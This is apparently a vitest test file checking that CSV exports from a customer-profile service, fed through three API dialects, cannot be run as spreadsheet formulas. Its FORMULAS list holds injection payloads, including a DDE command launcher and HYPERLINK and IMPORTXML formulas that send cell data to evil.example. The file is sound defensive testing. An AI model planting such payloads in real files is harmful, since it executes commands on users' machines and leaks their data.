import { gunzipSync } from 'node:zlib'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { openHarness } from '../../contract/harness.ts'
import type { Harness } from '../../contract/harness.ts'
import { openTestDatabase } from '../../setup/database.ts'
import type { TestDatabase } from '../../setup/database.ts'
import { note } from '../figures.ts'

let database: TestDatabase
let harness: Harness

beforeAll(async () => {
  database = await openTestDatabase()
  harness = await openHarness(database.db)
  await harness.app.http.listen({ port: 0, host: '127.0.0.1' })
})

afterAll(async () => {
  await harness.close()
  await database.close()
})

/** What spreadsheets run, or fetch, when a cell begins with it. */
const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  '+1+cmd',
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '=1+1\n=2+2',
  '"=1+1"',
  '=1,=2',
]

/** A cell that no spreadsheet takes for a formula; a number is what it looks like. */
const isHarmless = (cell: string): boolean => !/^[=+\-@\t\r]/.test(cell) || /^[+-]?[\d.]+$/.test(cell)

async function exported(body: object): Promise<string> {
  const asked = await harness.call('native', 'create-export', { body })
  const params = { exportId: String((asked.body as { id: number }).id) }
  const read = async () =>
    (await harness.call('native', 'get-export', { params })).body as {
      state: string
      download: { url: string }
    }
  await expect.poll(async () => (await read()).state).toBe('ready')
  const { pathname, search } = new URL((await read()).download.url)
  const { payload } = { payload: await harness.app.http.inject({ method: 'GET', url: pathname + search }) }
  const bytes = payload.rawPayload
  return (bytes[0] === 0x1f ? gunzipSync(bytes) : bytes).toString('utf8')
}

it('no cell of an exported table is run by a spreadsheet, whichever dialect stored it', async () => {
  const native = FORMULAS.map((text, index) => ({
    identifiers: [{ kind: 'userId', value: `=${index}+native` }],
    attributes: { firstName: text, note: text, list: [text] },
    tags: [text.replaceAll(/\s/g, ' ').trim()],
  }))
  expect((await harness.call('native', 'write-profiles', { body: { items: native } })).status).toBe(200)
  const users = FORMULAS.map((text, index) => ({
    userId: `@${index}+webengage`,
    firstName: text,
    attributes: { note: text },
  }))
  expect((await harness.call('webengage', 'bulk-users', { body: { users } })).status).toBe(201)
  const clients = FORMULAS.map((text, index) => ({
    customId: `-${index}+synerise`,
    firstName: text,
    attributes: { note: text },
  }))
  expect((await harness.call('synerise', 'batch-clients', { body: clients })).status).toBeLessThan(300)
  const fields = [
    'userId',
    'attributes.firstName',
    'attributes.note',
    'attributes.list',
    'tags',
    'attributes',
  ]
  let cells = 0
  for (const gzip of [false, true]) {
    const text = await exported({ format: 'csv', gzip, fields })
    const rows = parse(text, { relax_quotes: false })
    expect(rows.length).toBe(1 + 3 * FORMULAS.length)
    for (const cell of rows.flat()) expect(isHarmless(cell), cell).toBe(true)
    // The text is there, only kept from running.
    for (const formula of FORMULAS) expect(rows.flat().some((cell) => cell.endsWith(formula))).toBe(true)
    cells += rows.flat().length
  }
  note({ proof: 'walls', what: 'cells of exported tables', value: cells, bound: 'none a formula' })
})
